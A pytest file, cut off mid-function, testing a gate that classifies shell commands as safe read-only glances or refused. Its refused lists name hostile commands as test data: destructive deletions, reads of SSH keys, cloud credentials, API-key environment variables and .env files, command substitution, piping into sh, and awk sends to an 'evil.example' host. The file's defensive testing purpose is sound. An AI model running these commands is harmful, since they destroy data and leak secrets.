"""is_ephemeral: the gate deciding what a coordinator may run without a worker.

A wrong True is a security bug (a write, a program run, the network, a secret printed behind an
allowed verb), so the table below is mostly attacks, and the hypothesis properties insert refused
constructs into otherwise-allowed commands and demand False every time. Focused rules per binary
live in tests/glance/test_rules_*.py.

The tests ask ``decide``, not ``is_ephemeral``: ``is_ephemeral`` turns any crash inside the
checker into a ``False`` (fail closed), which would let a crashing checker pass every "refused"
case. ``decide`` lets such a crash propagate, so a refusal here is always a decision.
"""

from __future__ import annotations

import re
import subprocess

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import flower
from flower.roles import ephemeral
from flower.roles.ephemeral import NEVER, REMOVED, VERBS, decide, explain, is_ephemeral
from flower.roles.glance.lexer import Refuse, Word, lex

from ..fuzz import examples

ALLOWED = [
    # -- the seed's own examples (compound commands are checked per segment) --
    "git status && git diff --stat",
    "ls -la | head -20",
    "rg -n foo src 2>/dev/null | wc -l",
    # -- git, read-only --
    "git status",
    "git status --porcelain -b",
    "git diff",
    "git diff --cached --stat",
    "git diff --text HEAD~1",
    "git diff HEAD^ -- src/*.py",
    "git log --oneline -20",
    "git log --format='%H %an %s' --since=2.weeks",
    "git log @{u}..HEAD",
    "git log HEAD@{1.day.ago} -1",
    "git show HEAD:src/flower/__init__.py",
    "git show --stat HEAD",
    "git --no-pager log -5",
    "git -P diff",
    "git rev-parse --abbrev-ref HEAD",
    "git rev-parse --show-toplevel",
    "git ls-files -m",
    "git blame -L 10,20 src/x.py",
    "git branch",
    "git branch -a",
    "git branch -vv",
    "git branch --show-current",
    "git branch --list 'feat*'",
    "git branch --contains HEAD",
    "git branch --sort=-committerdate",
    "git tag",
    "git tag -l 'v*'",
    "git tag -n5",
    "git tag --contains HEAD",
    "git stash list",
    "git stash show -p stash@{0}",
    "git remote -v",
    "git remote get-url origin",
    "git config --get user.name",
    "git config get user.email",
    "git reflog -10",
    "git reflog show main",
    "git worktree list",
    "git grep -n TODO -- 'src/*.py'",
    "git cat-file -p HEAD",
    "git describe --tags --always",
    "git merge-base HEAD origin/main",
    "git for-each-ref --format='%(refname)' refs/heads",
    "git shortlog -sn",
    "git count-objects -vH",
    "git --version",
    # -- directory and system info --
    "ls",
    "ls -la src/",
    "ls *.py",
    "pwd",
    "df -h",
    "du -sh .",
    "date",
    "date +%Y-%m-%d",
    "date -u -d @0 +%s",
    "date -Iseconds",
    "whoami",
    "id",
    "uname -a",
    "uptime",
    "nproc",
    "free -h",
    "realpath ../x",
    "file README.md",
    # -- processes and containers --
    "ps aux",
    "ps -ef | grep python",
    "lsof -nP -iTCP -sTCP:LISTEN",
    "lsof -n -i :8080",
    "ss -tlnp",
    "pgrep -fl uvicorn",
    "docker ps",
    "docker ps -a --format '{{.Names}}'",
    "docker images",
    "docker logs --tail 50 web",
    "docker stats --no-stream",
    "docker compose ps",
    # -- file viewing --
    "cat /etc/hosts",
    "cat README.md | head -50",
    "head -n 30 src/flower/cli.py",
    "tail -n 100 log/app.log",
    "tail -n +5 f",
    "tail -20 logs/*.log",
    "wc -l src/**/*.py",
    "stat pyproject.toml",
    "find . -name '*.py' -type f",
    "find src -type f | wc -l",
    "find . -newer setup.py -print0",
    "find . \\( -name a -o -name b \\)",
    "tree -L 2 src",
    "tree -I node_modules --dirsfirst",
    # -- path lookup --
    "which python",
    "whereis git",
    "type ls",
    "command -v docker",
    "command -V git",
    "command -pv ls",
    # -- text processing --
    "rg -n 'a|b' src",
    'grep "x;y" file',
    "grep -c '>' index.html",
    "grep -E '^(a|b)$' f",
    "rg -n TODO src",
    "rg --pretty foo",
    "sort -u names.txt",
    "sort -k2,2n -t, data.csv | uniq -c",
    "uniq -c counts.txt",
    "uniq --group=append f",
    "awk '{print $1}' access.log",
    "awk -F: '$3 > 1000 {n++} END {print n}' /etc/passwd",
    "awk -v n=3 'NR<=n' f",
    "awk '$1 || $2' f",
    "sed -n '1,20p' f",
    "sed -n '/start/,/end/p' f",
    "sed 's/foo/bar/g' f",
    "sed -E 's|a/b|c|g; s/x/y/2' f",
    "sed -n -e '$p' -e '1p' f",
    "sed '/^#/d;/^$/d' f",
    "sed -n '/x/{p;q}' f",
    "sed 'y/abc/xyz/' f",
    "jq '.items[] | .name' data.json",
    "jq -r .version package.json",
    "diff -u a.txt b.txt",
    "cut -d, -f1 f | sort | uniq -c | sort -rn | head",
    "tr a-z A-Z < /dev/null",
    # -- redirections, separators, quoting, whitespace --
    "ls >/dev/null 2>&1",
    "ls &>/dev/null",
    "ls 2> /dev/null",
    "git status 2>&1 | head",
    "ls >&2",
    "ls; pwd",
    "ls||pwd",
    "ls&&pwd",
    "ls |& grep x",
    "   ls   -la   ",
    "\tgit\tstatus\t",
    "\ngit status\n",
    "'ls' -la",
    'grep "\\$HOME" f',
    "grep foo\\;bar f",
    "cat 'a file with spaces.txt'",
    "ls ~/projects",
    # -- hardening: look-alikes of refused forms that are really read-only --
    "git log --no-ext-diff --no-textconv",
    "git branch --no-merged main",
    "git config get --all user.name",
    "git rev-parse HEAD~1 @{-1}",
    "git reflog exists HEAD",
    "git worktree list --porcelain",
    "awk '$1>0{print}' f",
    "sed -n '$!N;P;D' f",
    "sed '0~3d' f",
    "sed 's/a/b/I' f",
    "sed --sandbox 's/a/b/' f",
    "sed -n 1p -- -i",
    "sed '\\,x,d' f",
    "sed '1!G;h;$!d' f",
    "docker logs --since 10m web",
    "date --rfc-3339 seconds",
    "uniq -f 1 -c f",
    "sort -rnk2 f",
    "rg -u --no-ignore-vcs foo",
    "find . -prune -o -print",
    "find . -D exec -name x",
    "du -sh -- * | sort -h",
    "wc -l -- *",
    "cat -- *.md",
    "ps -eo pid,cmd --sort=-%mem | head",
    "ls >/dev/null </dev/null",
    "ls 2>'/dev/null'",
    '"git" "status"',
    "g\\it status",
    "ls -- 'a;b'",
    "grep -- -v f",
    # -- exact parsing: `--` after `-t x` really ends sort's options, so -o is a file here --
    "sort -t x -- -o out f",
    "awk '{print}$1>0'",  # `{print}` then a new rule `$1>0`: the `>` compares
    # -- refused before, ordinary glances now (each argued in docs/ephemeral.md) --
    "echo hi",
    "echo 'a b' \"c\"",
    "printf '%s\\n' a b",
    "printf -- '-x'",
    "true",
    "false",
    "test -d .git && echo repo",
    "[ -f pyproject.toml ] && echo yes || echo no",
    "test -n x -a -e README.md",
    "cat X 2>/dev/null || echo missing",
    "ls build && echo ok",
    "tail -n 5 *.log",
    "head -5 *.md",
    "cat *.py | wc -l",
    'basename "$PWD"',
    'ls "$HOME"',
    'cat "${PWD}/README.md"',
    'ls "$HOME/projects"',
    "python3 --version",
    "python --version",
    "python3.11 -V",
    "pip --version",
    "pip list",
    "pip3 list --format=json",
    "pip show -f requests",
    "pip freeze --all",
    "pip check",
    "node --version",
    "go version",
    "gcc --version",
    "make --version",
    "uv --version",
    "env --version",
    # -- the new allow-lists, on realistic glances --
    "find . -name x -print -quit",
    "find src -maxdepth 2 -type d -not -path '*/.git/*'",
    "find . -newermt 2024-01-01 -type f",
    "find . -size +1M -printf '%s %p\\n'",
    "git grep -n TODO -- '*.py'",
    "grep -lZ foo a.txt b.txt",
    "grep -f patterns.txt log.txt",
    "egrep 'a|b' f",
    "fgrep -x foo f",
    "rg --files src",
    "rg -t py -g '!tests' foo",
    "rg -u TODO",
    "ps auxf",
    "ps -p 1 -o pid,ppid,etime,cmd",
    "ps axo pid,comm",
    "ss -lnt sport = :8080",
    "ss -tn state established",
    "netstat -tlnp",
    "netstat -i",
    "docker ps -aq",
    "docker container ls --format '{{.Names}}'",
    "docker system df",
    "docker compose logs --tail=50 web",
    "jq '.env' config.json",
    "jq --arg x 1 '.a' f.json",
    "jq -n '[1,2] | length'",
    "jq -r '\"\\(.name) \\(.version)\"' package.json",
    "sed -n '/x/=' f",
    "awk 'length($0) > 80' f",
    "awk '{s+=$2} END {printf \"%d\\n\", s}' f",
    "awk -v OFS=, '{print $1, $2}' f",
    "git log -L 10,20:src/x.py",
    "git show HEAD:README.md",
    "git diff -- '*.py'",
    "git diff --no-index a.txt b.txt",
    "git status --porcelain=v2 --branch",
    "git log --pretty=format:'%h %s' -5",
    "git config get user.name",
    "git config user.name",
    "head README -n 5",
    "grep foo f -A 3",
    "git grep --no-index --exclude-standard KEY",
    "diff -r src/ build/",
    "git log -- ':!vendor'",
    "rg -n --hidden TODO",
    "sed ':a;N;$!ba;s/\\n/ /g' f",
    "awk '{for(i=1;i<=NF;i++) s+=$i} END {print s}' f",
    'awk \'{for(i=NF;i>0;i--) printf "%s ", $i; print ""}\' f',
    "jq '[range(0; 3)]' f.json",
    "jq '.. | numbers' f.json",
    "git config --get remote.origin.url",
    "git remote get-url --push origin",
    "git branch -vv --no-color",
    "git tag --list 'v1.*' --sort=-v:refname",
    "git ls-files -z -- src",
    "git grep -c TODO -- src",
    "date -d '2 days ago' +%F",
    "du -h --max-depth=1 .",
    "stat -c '%s %n' *",
    "ls -la *",
    "md5sum ./*.whl",
    "diff -ru a b",
    "cat /proc/cpuinfo",
    "cat /proc/loadavg",
    "ls ~/.ssh",
    "cat ~/.ssh/id_ed25519.pub",
    "who am i",
]

REFUSED = [
    # -- empty --
    "",
    "   ",
    "\t\n",
    # -- command substitution, expansions --
    "ls $(rm -rf x)",
    "ls `rm -rf x`",
    "cat <(rm x)",
    "diff >(rm x) a",
    'echo "$(id)"',
    'ls "`id`"',
    "ls ${HOME}",
    "ls $HOME",
    "ls $((1+1))",
    "ls $'\\x41'",
    "git log $(echo --output=x)",
    # -- redirections to files, heredocs --
    "ls > out.txt",
    "ls >> out.txt",
    "ls >| out.txt",
    "ls &> out.txt",
    "ls 2> err.txt",
    "cat < secret",
    "cat <<EOF",
    "cat <<< hi",
    "cat <> f",
    "ls >&out",
    "ls 2>&-",
    "ls > /dev/null/../../tmp/x",
    "ls >/dev/nul?",
    "git diff --stat >diff.txt && git status",
    # -- background jobs, odd separators --
    "ls &",
    "ls & pwd",
    "sleep 1 & ls",
    "ls;",
    "; ls",
    "ls && && pwd",
    "ls ;; pwd",
    "ls |",
    "ls\nrm -rf x",
    "ls\rrm -rf x",
    "ls\x00rm",
    # -- subshells, groups, brace expansion, comments --
    "(ls)",
    "( rm -rf x )",
    "{ ls; }",
    "ls; { rm x; }",
    "sort {-o,out} f",
    "ls #; rm x",
    # -- quoting trouble --
    "ls 'unbalanced",
    'ls "unbalanced',
    "ls \\",
    # -- not whitelisted / never --
    "rm -rf build",
    "touch x",
    "mkdir x",
    "cd src && ls",
    "python -c 'print(1)'",
    "bash -c ls",
    "ls | xargs rm",
    "exec ls",
    "eval ls",
    "source .env",
    ". .env",
    "ls | tee out",
    "sudo ls",
    "nice ls",
    "timeout 5 ls",
    "nohup ls",
    "time ls",
    "watch ls",
    "env rm -rf x",
    "env -i ls",
    "env -S 'rm x'",
    "env FOO=1",
    "command rm x",
    "command -p rm x",
    "command",
    # -- assignments and verbs given as paths --
    "PAGER=cat git log",
    "GIT_PAGER='rm -rf x' git log",
    "LD_PRELOAD=x.so ls",
    "/bin/rm x",
    "/bin/ls",
    "./ls",
    "l* -la",
    # -- find --
    "find . -delete",
    "find . -name x -exec rm {} \\;",
    "find . -execdir rm x \\;",
    "find . -ok rm \\;",
    "find . -okdir rm \\;",
    "find . -fprint out",
    "find . -fprint0 out",
    "find . -fprintf out %p",
    "find . -fls out",
    "find . '-delete'",
    "find . -name *.py",
    # -- sed --
    "sed -i s/a/b/ f",
    "sed -i.bak s/a/b/ f",
    "sed -ni p f",
    "sed --in-place s/a/b/ f",
    "sed --in-pl s/a/b/ f",
    "sed -f script.sed f",
    "sed 's/a/b/w out' f",
    "sed 's/a/b/e' f",
    "sed 's/a/b/gw out' f",
    "sed 'w out' f",
    "sed '1W out' f",
    "sed 'e rm x' f",
    "sed '1e rm x' f",
    "sed 'r /etc/shadow' f",
    "sed 's/a/b/;w out' f",
    "sed -e p -e 'w out' f",
    "sed --expression='w out' f",
    "sed '1a text' f",
    "sed 's/a/b' f",
    "sed -n p *",
    # -- awk --
    "awk 'BEGIN{system(\"rm x\")}'",
    "awk 'BEGIN { system (\"id\") }'",
    "awk '{print > \"out\"}' f",
    'awk \'{printf "%s", $0 > "out"}\' f',
    "awk '{print >> \"out\"}' f",
    "awk '{print | \"sh\"}' f",
    "awk 'BEGIN{\"id\" | getline x}'",
    "awk 'BEGIN{getline x < \"/etc/shadow\"}'",
    "awk -f prog.awk f",
    "awk -i inplace '{print}' f",
    "awk -l ext '{print}' f",
    "awk -E prog.awk",
    "awk -o '{print}' f",
    "awk -W exec prog f",
    "awk '@load \"x\"; {print}' f",
    # -- sort, uniq, tree, rg, tail, top --
    "sort -o out f",
    "sort -uo out f",
    "sort --output=out f",
    "sort --out=out f",
    "sort --compress-program=sh f",
    "sort *.txt",
    "uniq in.txt out.txt",
    "uniq -c in.txt out.txt",
    "uniq data/*.txt",
    "tree -o out.txt",
    "tree -R -H . src",
    "rg --pre=sh foo",
    "rg --pre sh foo",
    "rg --hostname-bin=id foo",
    "rg foo *",
    "tail -f log",
    "tail -F log",
    "tail --follow=name log",
    "tail -10f log",
    "tail +5f log",
    "tail *",
    "top",
    "top -b",
    "top -n 1",
    "top -b -n 1",  # it creates ~/.config/procps
    "top -bn1 | head -20",
    # -- date, hostname, free, lsof, ss, file --
    "date -s '2020-01-01'",
    "date --set=now",
    "date --se=now",
    "date 010112002024",
    "date -I 010112002024",
    "date --iso-8601 010112002024",
    "hostname evil",
    "hostname -F f",
    "hostname -b x",
    "free -s 1",
    "lsof -r 1",
    "lsof +r",
    "ss -K dst 1.2.3.4",
    "file -C -m x",
    # -- git writes and git code execution --
    "git",
    "git push",
    "git pull",
    "git fetch",
    "git checkout main",
    "git reset --hard",
    "git clean -fdx",
    "git commit -m x",
    "git add .",
    "git branch new-feature",
    "git branch -D old",
    "git branch -d old",
    "git branch -m a b",
    "git branch -M a b",
    "git branch -c a b",
    "git branch -f x HEAD",
    "git branch --delete x",
    "git branch -u origin/x",
    "git branch -a newbranch",
    "git branch --color always",
    "git tag v1.0",
    "git tag -a v1 -m msg",
    "git tag -d v1",
    "git tag -v v1",
    "git stash",
    "git stash pop",
    "git stash drop",
    "git stash push -m x",
    "git remote add evil https://x",
    "git remote remove origin",
    "git config user.name x",
    "git config --unset user.name",
    "git config --add x.y z",
    "git config --global --edit",
    "git reflog expire --all",
    "git reflog delete HEAD@{1}",
    "git worktree add ../x",
    "git worktree remove x",
    "git -c core.pager=sh log",
    "git -c alias.x='!rm' x",
    "git -C /tmp/evil status",
    "git --git-dir=evil/.git status",
    "git --exec-path=/tmp log",
    "git --paginate log",
    "git log --output=x",
    "git diff --output x",
    "git diff --out=x",
    "git diff --ext-diff",
    "git diff --textconv",
    "git log -p --ext",
    "git grep -O foo",
    "git grep -Ovim foo",
    "git grep --open-files-in-pager foo",
    "git cat-file --filters HEAD:x",
    "git log --force",
    "git log --prune",
    "git diff *",
    "git diff --out*",
    "git help log",
    "git symbolic-ref HEAD refs/heads/x",
    "git status && git push",
    "git log | git am",
    # -- docker and kubectl --
    "docker run alpine",
    "docker exec web sh",
    "docker rm web",
    "docker logs -f web",
    "docker logs --follow web",
    "docker stats",
    "docker events",
    "docker --host tcp://x ps",
    "docker compose up",
    "kubectl apply -f x.yaml",
    "kubectl delete pod x",
    "kubectl exec -it x -- sh",
    "kubectl --kubeconfig=evil get pods",
    "kubectl get pods --kubeconfig=evil",
    "kubectl cluster-info dump",
    "kubectl config current-context",  # kubectl is off the glance list altogether
    "kubectl config use-context prod",
    # -- a refused segment anywhere in a compound command --
    "ls && rm -rf x",
    "git status; git push --force",
    "cat f | sh",
    "ls | sed -i s/a/b/ f",
    "ls || touch x",
    "grep foo f 2>/dev/null | tee out | wc -l",
    # -- hardening: `--` taken as an option's argument, consumed values, look-alikes --
    "rg -e -- --pre=sh x",
    "git log -S -- --output=x",
    "git diff -- *",
    "git config --file --get x.y z",
    "git log --output-directory=x",
    "git remote set-url origin x",
    "git worktree prune",
    "git fsck --lost-found",
    "git gc",
    "git symbolic-ref HEAD refs/heads/evil",
    "git log @{a,b}",
    "git log @{1..3}",
    "ls {a,b}",
    "ls @(x)",
    "date -d *",
    "date -us 1",
    "date -d -- 010112002024",
    "env -- rm x",
    "env --chdir=/ ls",
    "uniq -c -- in out",
    "uniq -c - out",
    "awk -e 'BEGIN{}'",
    "awk --source 'BEGIN{}'",
    "awk 'BEGIN { cmd = \"id\"; cmd | getline }'",
    "sed -n '1p;w x' f",
    "sed 's/x/y/;e' f",
    "sed 's,a\\,b,c,w x' f",
    "sed f -i",
    "docker stats --no-stream --no-stream=false",
    "docker logs -tf web",
    "docker container logs -f web",
    "top -b -n 0",
    "ss -D dump.bin",
    "ls >/dev/stdout",
    "ls 2>/dev/./null",
    # -- the review's holes: bfs -rm, ugrep's extra options, rg's programs --
    "find . -name X -rm",
    "find . -name x -exec rm {} +",
    "find . -files0-from list",
    "find . -name a -o -name b -fls out",
    "grep -Q foo",
    "grep --query foo",
    "grep --filter='*:sh' foo .",
    "grep --pager=less foo f",
    "grep --view=vim foo f",
    "grep --save-config foo",
    "grep --config=evil foo f",
    "grep --from=list foo",
    "grep -D read foo f",
    "grep --index foo",
    "grep foo *",
    "grep -rn foo *.py",
    "grep -rn foo src",  # GNU grep here: reads gitignored .env files
    "grep -rn --include='*.py' TODO src",
    "md5sum *.whl",  # a planted -c makes the next file a checklist
    "grep -rlZ foo src",
    "grep --null -rn KEY .",
    "egrep -r KEY .",
    "rg --hidden -uu KEY .",
    "rg -uuu KEY",
    "rg --hidden --no-ignore KEY",
    "rg -z foo",
    "rg --search-zip foo",
    "rg --pre-glob='*' --pre=cat foo",
    # -- gawk special files, the environment, ARGV tricks --
    "awk '{print}' /inet/tcp/0/evil.example/80",
    "awk '{print}' /inet4/udp/0/evil.example/53",
    "gawk 'BEGIN { print ENVIRON[\"ANTHROPIC_API_KEY\"] }'",
    "awk 'BEGIN{ARGV[1]=\"/inet/tcp/0/x/80\"; ARGC=2} {print}'",
    "awk 'BEGIN{print PROCINFO[\"pid\"]}'",
    "awk 'BEGIN{ \"date\" |& getline x }'",
    'awk \'BEGIN{ print SYMTAB["ENVIRON"]["HOME"] }\'',
    'awk \'BEGIN{ f = "system"; @f("id") }\'',
    "awk 'BEGIN{ close(\"x\") }'",
    "awk --exec prog.awk",
    "awk --source 'BEGIN{}' f",
    "awk --assign x=1 '{print}' f",
    # -- name resolution --
    "lsof -i @evil.example",
    "lsof -n -i @evil.example",
    "lsof -n -i TCP@evil.example:80",
    "lsof -i :8080",
    "lsof -p 1",
    "ss dst evil.example",
    "ss -tn dst evil.example:443",
    "ss -r",
    "ss -E",
    "netstat -tlp",
    "netstat -c -n",
    "hostname -f",
    "hostname -A",
    "hostname -i",
    "hostname -d",
    "who --lookup",
    # -- the environment and secrets --
    "env",
    "env -0",
    "printenv",
    "printenv ANTHROPIC_API_KEY",
    "cat /proc/self/environ",
    "cat /proc/1/cmdline",
    "head -c 100 /proc/self/mem",
    "cat /proc/*/environ",
    "cat /proc/*/env*",
    "grep -a KEY /proc/self/environ",
    "cat ../../proc/self/environ",
    "cat /etc/../proc/self/environ",
    "cat .env",
    "cat .env.local",
    "cat .en?",
    "cat src/.env",
    "cat *",
    "head .*",
    "grep KEY .env",
    "grep -rn KEY ~",
    "grep -r KEY /",
    "rg KEY ~/.config",
    "cat ~/.config/flower/.env",
    'cat "$HOME/.config/flower/.env"',
    "cat ~/.claude/.credentials.json",
    "cat ~/.netrc",
    "cat ~/.ssh/id_rsa",
    "cat ~/.ssh/*",
    "cat ~/.aws/credentials",
    "cat ~/.docker/config.json",
    "cat ~/.kube/config",
    "cat server.pem",
    "cat tls.KEY",
    "cat .git-credentials",
    "sed -n p .pgpass",
    "jq . .npmrc",
    "grep -f .env x",
    "jq --rawfile k .env -n '$k'",
    "jq -n env",
    "jq -n '$ENV'",
    "jq -n '$ENV.ANTHROPIC_API_KEY'",
    "jq -n '\"\\(env)\"'",
    "jq -n 'import \"x\" as $x; $x'",
    "jq -f prog.jq f",
    "jq -L . -n 1",
    "ps e",
    "ps auxe",
    "ps -o pid,environ",
    "ps eww -p 1",
    "docker inspect web",
    "docker container inspect web",
    "docker image inspect alpine",
    "docker top web e",
    "docker -H tcp://evil ps",
    "docker --context prod ps",
    "docker --config /tmp/x ps",
    "docker --tlsverify ps",
    "git config --list",
    "git config -l",
    "git config list",
    "git config --get http.https://github.com/.extraheader",
    "git config --get-regexp '.*'",
    "cat /dev/zero",
    "cat /dev/tty",
    "tail -c 10 /dev/urandom",
    "md5sum /dev/zero",
    "diff ~ /tmp/x",  # compares ~/.netrc with /tmp/x/.netrc
    # a BSD getopt (macOS) stops at the first operand: the value is then a file to read
    "head README -n .env",
    "tail f -n /proc/self/environ",
    "grep foo f -A /dev/zero",
    "wc f --files0-from x /dev/zero",
    # BSD variants take as a flag what GNU gives a value: the value is then a file
    "egrep -e x -C .env",  # BSD grep: -C[num] is optional, .env a file
    "sed -e p -l .env",  # BSD sed: -l is a flag, .env a file
    "netstat -n -w 1",  # BSD netstat: repeats every second
    # a planted file named --files0-from=.env makes wc/du print .env in their errors
    "wc -l *",
    "du -s *",
    "diff ~/.config/flower /tmp/x",
    "diff -r ~/.ssh /tmp/x",
    "diff --from-file=~ .bashrc",
    "git diff --no-index ~/.config/flower /tmp/x",
    "git diff --no-index . /tmp/x",
    "diff -r . /tmp/x",
    'diff "$PWD" /tmp/x',
    "git show :0:.env",
    "git show HEAD:./.env",
    "git grep KEY -- '.e*'",
    "git diff -- ':(top).env'",
    "git grep --no-index KEY",
    "ls /net/evil.example",
    "cat /Network/Servers/x/y",
    "stat /ne?/evil.example",
    "grep --include=/net/h/x foo f",
    "wc -c /dev/zero",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "cat /run/secrets/db_password",
    "git describe --dirty",
    "git config user.name evil",
    # -- never comes back --
    "awk 'BEGIN{while(1){}}'",
    "awk 'BEGIN{for(;;);}'",
    "awk 'BEGIN{for(i=0;i<1e300;i++);}'",
    "awk '{for(i=1;i<=NF;i++) i=0}'",
    "awk 'function f(){f()} BEGIN{f()}'",
    "sed -n ':a;ba' f",
    "sed ':a;$!N;ba' f",
    "sed 'G;D' f",
    "sed -n '$!{w copy.txt' -e '}' f",
    "jq -n 'repeat(1)'",
    "jq -n 'range(infinite)'",
    "jq -n 'def f: f; f'",
    "jq -n '[limit(infinite; repeat(1))]'",
    # -- removed binaries --
    "kubectl get pods",
    "kubectl get --raw /api/v1/namespaces/default/services/x:80/proxy/",
    "kubectl version --client",
    # -- false-refusal fixes must not open holes --
    "printf -v PATH /tmp/evil",
    "printf -v 'a[$(id)]' x",
    "printf * x",
    "test -v 'a[$(id)]'",
    "[ -v 'a[$(id)]' ]",
    "[ -R x ]",
    "test * = x",
    "[ -d x",
    "[[ -d x ]]",
    "[[ 'a[$(id)]' -eq 1 ]]",
    "ls $PWD",
    "ls ${PWD}",
    'ls "$PWDX"',
    'ls "$OLDPWD"',
    'ls "${HOME:-/}"',
    'ls "${HOME}x${PATH}"',
    "sort *.log",
    "uniq *.txt",
    "tail *.c",
    "tail *f",
    "tail -n 5 *",
    "python3 -c 'print(1)'",
    "python3 script.py",
    "python3 -m pip list",
    "python3 --version --foo",
    "pip list --outdated",
    "pip list -o",
    "pip list --uptodate",
    "pip list --index-url https://evil",
    "pip list --extra-index-url https://evil",
    "pip list --find-links /tmp",
    "pip list --proxy http://evil",
    "pip list --log /tmp/x",
    "pip list --cache-dir /tmp/x",
    "pip --python ./evil list",
    "pip install requests",
    "pip freeze -r requirements.txt",
    "npm --version",
    "npx --version",
    "cargo --version",
    "rustc --version",
    "java -version",
    "node -e 'process.exit()'",
    "go env",
    "go run .",
    "make",
    "make --version -f x",
    "ruby -v",
    "git --help",
    "git log --help",
    "git ls-remote origin",
    "git remote show origin",
    "git log --show-signature",
    "git log --format=%G?",
    "git log --pretty=format:%GS",
    "git -C /tmp log",
    "git --work-tree=/ status",
    "git --config-env=core.pager=X log",
    "git show HEAD:.env",
    "git diff .env",
    "git log -L 1,5:.env",
    "git grep --open-files-in-pager=vim x",
    "git diff -O order.txt",
    "date -f .env",
    "strings @opts",
    "cd /",
    "export A=1",
    "unset PATH",
    "set -x",
    "tee out",
    "! ls",
    "ls | kill 1",
    "xxd f",
    "file -z x.gz",
    "df --sync",
    "du --files0-from=x",
    "ls --fo=long",
    "sort --out=x f",
]


@pytest.mark.parametrize("cmd", ALLOWED)
def test_allowed(cmd: str) -> None:
    assert decide(cmd) is True
    assert is_ephemeral(cmd) is True


@pytest.mark.parametrize("cmd", REFUSED)
def test_refused(cmd: str) -> None:
    assert decide(cmd) is False  # a decision: a crash in the checker would raise here
    assert is_ephemeral(cmd) is False


def test_table_is_large_and_balanced() -> None:
    assert len(ALLOWED) + len(REFUSED) >= 150
    assert len(set(ALLOWED)) == len(ALLOWED) and len(set(REFUSED)) == len(REFUSED)
    assert 0.5 < len(ALLOWED) / len(REFUSED) < 2


def test_never_and_removed_are_not_on_the_glance_list() -> None:
    assert not set(NEVER) & set(VERBS)
    assert not set(REMOVED) & set(VERBS)


def test_public_export() -> None:
    assert flower.is_ephemeral is is_ephemeral


def test_non_string_is_false() -> None:
    assert decide(None) is False  # type: ignore[arg-type]
    assert decide(b"ls") is False  # type: ignore[arg-type]
    assert is_ephemeral(None) is False  # type: ignore[arg-type]


def test_only_the_gate_turns_a_checker_crash_into_false(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(words: object) -> bool:
        raise IndexError("a bug in a rule")

    monkeypatch.setattr(ephemeral, "_check_segment", broken)
    with pytest.raises(IndexError):
        decide("ls")
    assert is_ephemeral("ls") is False  # fail closed
    assert explain("ls") == "the glance checker could not judge this command"


@pytest.mark.parametrize("cmd", ALLOWED)
def test_explain_agrees_with_decide_on_allowed(cmd: str) -> None:
    assert explain(cmd) is None


@pytest.mark.parametrize("cmd", REFUSED)
def test_explain_gives_one_line_for_every_refusal(cmd: str) -> None:
    reason = explain(cmd)
    assert reason and "\n" not in reason and len(reason) <= 200


# --------------------------------------------------------------------------------------------
# properties
# --------------------------------------------------------------------------------------------

SAFE_SEGMENTS = [
    "ls -la",
    "git status",
    "git diff --stat",
    "git log --oneline -5",
    "git grep -n foo src",
    "cat README.md",
    "head -20 f",
    "wc -l",
    "sort -u",
    "uniq -c",
    "awk '{print $1}'",
    "sed -n 1,5p",
    "jq .name",
    "ps aux",
    "find . -name '*.py'",
    "tail -n 5 f",
    "git branch -a",
    "date +%s",
    "command -v git",
    "docker ps",
    "rg TODO",
    "echo done",
    "test -f x",
    "python3 --version",
    "pip list",
    "lsof -nP -i :8080",
    'ls "$PWD"',
]
SEPARATORS = ["&&", "||", ";", "|", "|&"]
SAFE_REDIRECTIONS = ["", "2>/dev/null", ">/dev/null", "2>&1", "&>/dev/null", "> /dev/null 2>&1"]

#: whole segments that must be refused wherever they appear
BAD_SEGMENTS = [
    "rm -rf x",
    "git push",
    "git push --force",
    "git reset --hard",
    "git branch -D x",
    "git branch newname",
    "git tag v9",
    "git stash",
    "git -c core.pager=sh log",
    "xargs rm",
    "tee out",
    "eval ls",
    "exec ls",
    "source x",
    "env rm x",
    "command rm x",
    "find . -delete",
    "find . -exec rm {} +",
    "sed -i s/a/b/ f",
    "sed 's/a/b/w out' f",
    "sort -o out f",
    "uniq a b",
    "awk 'BEGIN{system(\"id\")}'",
    "awk '{print > \"o\"}'",
    "tail -f log",
    "top",
    "date -s now",
    "tree -o out",
    "rg --pre=sh x",
    "git log --output=x",
    "git diff --ext-diff",
    "kubectl get pods",
    "docker logs -f x",
    "PAGER=sh git log",
    "/bin/rm x",
    "find . -name x -rm",
    "grep -Q x",
    "grep --filter='*:sh' x .",
    "awk 'BEGIN{print ENVIRON[\"HOME\"]}'",
    "awk '{print}' /inet/tcp/0/evil.example/80",
    "env",
    "printenv",
    "cat /proc/self/environ",
    "jq -n env",
    "ps auxe",
    "docker inspect x",
    "cat .env",
    "lsof -i @evil.example",
    "ss dst evil.example",
    "hostname -f",
    "printf -v PATH x",
    "test -v 'a[$(id)]'",
    "pip list --outdated",
    "npm --version",
]
#: words that make any segment they are inserted into refused (expansions, file redirections)
BAD_WORDS = [
    "$(rm x)",
    "`rm x`",
    "<(rm x)",
    ">(rm x)",
    "${X}",
    "$((1))",
    "$X",
    "> out",
    ">> out",
    "< in",
    "2> err",
    "&> out",
    ">| out",
    "<<EOF",
    "<<< x",
    "(ls)",
    "{ls,x}",
    "$PWD",
    "${HOME}",
    '"$PATH"',
    '"${HOME:-x}"',
]
#: separators that make the command refused
BAD_SEPARATORS = ["&", "\n", "\r", ";;"]


@st.composite
def _safe_command(draw: st.DrawFn) -> list[str]:
    """Whitelisted segments joined by random separators, each with an optional safe redirection."""
    segments = draw(st.lists(st.sampled_from(SAFE_SEGMENTS), min_size=1, max_size=4))
    parts: list[str] = []
    for k, segment in enumerate(segments):
        if k:
            parts.append(draw(st.sampled_from(SEPARATORS)))
        redirection = draw(st.sampled_from(SAFE_REDIRECTIONS))
        parts.append(f"{segment} {redirection}".rstrip())
    return parts


def _join(parts: list[str], spaces: list[str]) -> str:
    return "".join(part + spaces[k % len(spaces)] for k, part in enumerate(parts)).strip(" ")


spacing = st.lists(st.sampled_from([" ", "  ", "\t", " \t "]), min_size=1, max_size=4)


@given(parts=_safe_command(), spaces=spacing)
def test_safe_compositions_are_accepted(parts: list[str], spaces: list[str]) -> None:
    assert decide(_join(parts, spaces)) is True


@given(parts=_safe_command(), spaces=spacing, data=st.data())
@settings(max_examples=examples(150), suppress_health_check=[HealthCheck.too_slow])
def test_bad_segment_anywhere_is_refused(
